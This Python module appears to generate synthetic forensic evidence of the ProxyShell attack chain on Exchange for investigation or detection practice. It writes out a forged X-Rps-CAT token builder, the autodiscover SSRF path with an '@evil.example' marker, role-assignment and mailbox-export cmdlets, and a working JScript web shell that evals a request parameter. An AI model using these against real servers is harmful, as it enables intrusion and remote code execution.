"""What ProxyShell (CVE-2021-34473, CVE-2021-34523, CVE-2021-31207) leaves on an Exchange server.

Nothing here attacks anything: these functions add rows to logs. The page that they leave is put
together at run time, written only below the output folder, and run by nobody.

Source of the requests' form and order: rows and cmdlets of a case (H. Shehri, "ProxyShell
vulnerabilities exploited"), Mandiant's report of 2021-09-03, SigmaHQ's rules. Answers of fixed
servers: the same rules, and Microsoft's Exchange team.
"""
import base64

from attack import EXECUTION, Intruder, Shell
import attack
from server import ADMIN, ADMIN_SID, CHROME, DOMAIN, HOST, MINUTE, NETBIOS, PYTHON, SECOND
from textlogs import Request, add_request
import winlogs

STEM = "/autodiscover/autodiscover.json"
OUTSIDE = Intruder("203.0.113.81")
SCANNER = Intruder("198.51.100.61")
PAGE = "/aspnet_client/rwkqzx.aspx"
PAGE_FILE = "inetpub/wwwroot/aspnet_client/rwkqzx.aspx"
PAGE_SHARE = "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\rwkqzx.aspx"
PAGE_WINDOWS = "C:\\inetpub\\wwwroot\\aspnet_client\\rwkqzx.aspx"
REPLICATION = ("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\"
               "MSExchangeMailboxReplication.exe")


def token(user, sid):
    """An X-Rps-CAT: piece by piece a letter, a length and a text."""
    def piece(letter, text):
        return letter + bytes([len(text)]) + text.encode()
    data = b"V\1\0" + piece(b"T", "Windows") + b"C\0" + piece(b"A", "Kerberos")
    data += piece(b"L", user) + piece(b"U", sid) + b"G\0\0\0\0"
    return base64.b64encode(data).decode()


def passed(evidence, rng, time, intruder, path, **more):
    """A request that names another page behind an address: front end, and back end if it got
    there."""
    mark = "&Email=autodiscover/autodiscover.json%3F@evil.example"
    values = {"method": "POST", "agent": PYTHON, "anchor": "", "duration": 90,
              "query": "?@evil.example" + path + ("" if "?" in path else "?") + mark,
              "hint": "ExplicitLogon-SMTP", "backend_stem": path.split("?")[0],
              "backend_query": path.partition("?")[2] or "-",
              "backend_user": "%s\\%s$" % (NETBIOS, HOST), "response_bytes": 1021}
    values.update(more)
    if values.get("backend_status", 200) is None:
        values["proxied"] = False
    add_request(evidence, rng, time, Request("Autodiscover", STEM, intruder.address, **values))


def probe(evidence, rng, time, intruder=SCANNER):
    """A scanner asks a fixed server for the page of the address book and for OWA, and is refused.

    Truth: entry `probed`; nothing else.
    """
    for i, path in enumerate(("/mapi/nspi/", "/owa/")):
        passed(evidence, rng, time + i * SECOND, intruder, path, method="GET", agent=CHROME,
               status=401, backend_status=None, response_bytes=0)


def attempt(evidence, rng, time, intruder=OUTSIDE):
    """The steps of the chain tried on a fixed server: all refused (400, 401).

    Truth: entry `attempted`; nothing else.
    """
    steps = (("/autodiscover/autodiscover.xml", 400), ("/mapi/emsmdb/", 401),
             ("/powershell/?X-Rps-CAT=" + token("a.berg@" + DOMAIN, ADMIN_SID), 401))
    for i, (path, status) in enumerate(steps):
        passed(evidence, rng, time + i * 900, intruder, path, status=status, backend_status=None,
               response_bytes=0)


def reach(evidence, rng, time, intruder=SCANNER):
    """The address book's page answers 200 on a server without the update; no more happens.

    Truth: entry `reached`.
    """
    passed(evidence, rng, time, intruder, "/mapi/nspi/", method="GET", agent=CHROME)


def enter(evidence, rng, time, intruder=OUTSIDE, sysmon=True):
    """The whole chain: identifier, draft, remote PowerShell as the administrator, the role, the
    mailbox exported into a page, the page used once.

    Truth: entry `exploited` (observed), back door PAGE `present` and used, action `execution`,
    loss `bounds` from the bytes up that Exchange Web Services answered (1480).
    """
    cat = "/powershell/?X-Rps-CAT=" + token(ADMIN.smtp, ADMIN_SID)
    passed(evidence, rng, time, intruder, "/autodiscover/autodiscover.xml", response_bytes=3911)
    passed(evidence, rng, time + 1 * SECOND, intruder, "/mapi/emsmdb/", response_bytes=2006)
    passed(evidence, rng, time + 3 * SECOND, intruder, "/EWS/exchange.asmx", response_bytes=1480)
    for i in range(6):
        passed(evidence, rng, time + (5 + i) * SECOND, intruder, cat, response_bytes=2600 + i)
    commands(evidence, rng, time + 12 * SECOND)
    _page(evidence, time + 40 * SECOND, sysmon)
    use(evidence, rng, time + MINUTE, intruder, sysmon)


def commands(evidence, rng, time):
    """The role, the export into a page, and the request for it taken away again."""
    caller = "%s/Users/Administrator" % DOMAIN
    for offset, name, text in (
            (0, "New-ManagementRoleAssignment",
             "-Role \"Mailbox Import Export\" -User \"%s\"" % ADMIN.account),
            (9, "New-MailboxExportRequest",
             "-Mailbox \"%s\" -FilePath \"%s\" -IncludeFolders \"#Drafts#\" -ContentFilter "
             "\"Subject -eq 'rwkqzx'\"" % (ADMIN.smtp, PAGE_SHARE)),
            (50, "Remove-MailboxExportRequest", "-Confirm \"False\" -Identity \"rwkqzx\"")):
        winlogs.cmdlet(evidence, time + offset * SECOND, rng, name, text, caller, ADMIN_SID,
                       application="Remote-PowerShell-Unknown")


def _page(evidence, time, sysmon):
    body = "<scr" + "ipt language='JScript' runat='server'>function Page_Load(){ev"
    body += "al(Request['exec_code'],'unsafe');Response.End;}</scr" + "ipt>"
    store = b"!BDN" + bytes(range(256)) * 900 + body.encode() + bytes(40000)
    evidence.file(PAGE_FILE, store, time)
    if sysmon:
        winlogs.sysmon_file_created(evidence, time, REPLICATION, 7420, PAGE_WINDOWS)


def use(evidence, rng, time, intruder, sysmon):
    """A command through the page."""
    shell = Shell("rwkqzx.aspx")
    shell.web_path = PAGE
    attack.run(evidence, rng, time, intruder, shell, "cmd /c whoami", sysmon, kind=EXECUTION,
               inner=[("whoami.exe", "whoami")])
